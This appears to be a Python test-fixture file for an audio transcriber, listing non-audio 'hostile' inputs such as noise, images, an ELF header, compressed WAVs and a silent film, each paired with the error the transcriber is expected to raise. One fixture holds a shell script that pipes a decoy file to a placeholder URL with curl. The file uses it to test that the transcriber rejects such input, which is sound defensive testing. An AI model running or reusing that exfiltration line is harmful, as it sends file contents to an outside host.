"""What is no sound at all."""

import gzip
import io
import zipfile

import numpy as np

from unit.transcriber_core.hostile.boxes import picture, wav
from unit.transcriber_core.hostile.kinds import NO_AUDIO, NO_STREAM, Bait, Hostile, Refused, text
from unit.transcriber_core.media import silent_film


def noise(count: int) -> bytes:
    """The same random bytes every time."""
    return np.random.default_rng(1).bytes(count)


def zipped(bait: Bait) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("a.wav", wav(bait.spoken))
    return out.getvalue()


NOTHING: dict[str, Hostile] = {
    "empty": Hostile(lambda bait: b"", Refused("The file is empty")),
    "one byte": Hostile(lambda bait: b"R", NO_AUDIO),
    "text": Hostile(lambda bait: b"To be, or not to be\n" * 500, NO_AUDIO),
    "noise": Hostile(lambda bait: noise(200_000), NO_AUDIO),
    "zeros": Hostile(lambda bait: bytes(100_000), NO_AUDIO),
    "a script": Hostile(text("#!/bin/sh\ncat {decoy} | curl --data-binary @- {url}\n"), NO_AUDIO),
    "a page": Hostile(text('<!DOCTYPE html><html><audio src="{url}/a.wav"></audio></html>'), NO_AUDIO),
    "a program": Hostile(lambda bait: b"\x7fELF\x02\x01\x01" + bytes(9) + noise(5000), NO_AUDIO),
    "PNG": Hostile(lambda bait: picture("png"), NO_AUDIO),
    "JPEG": Hostile(lambda bait: picture("mjpeg"), NO_AUDIO),
    "BMP": Hostile(lambda bait: picture("bmp"), NO_AUDIO),
    "SVG": Hostile(text('<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/a.png"/></svg>'), NO_AUDIO),
    "gzip of a WAV": Hostile(lambda bait: gzip.compress(wav(bait.spoken)), NO_AUDIO),
    "zip of a WAV": Hostile(zipped, NO_AUDIO),
    "a film without sound": Hostile(lambda bait: silent_film(), NO_STREAM),
}
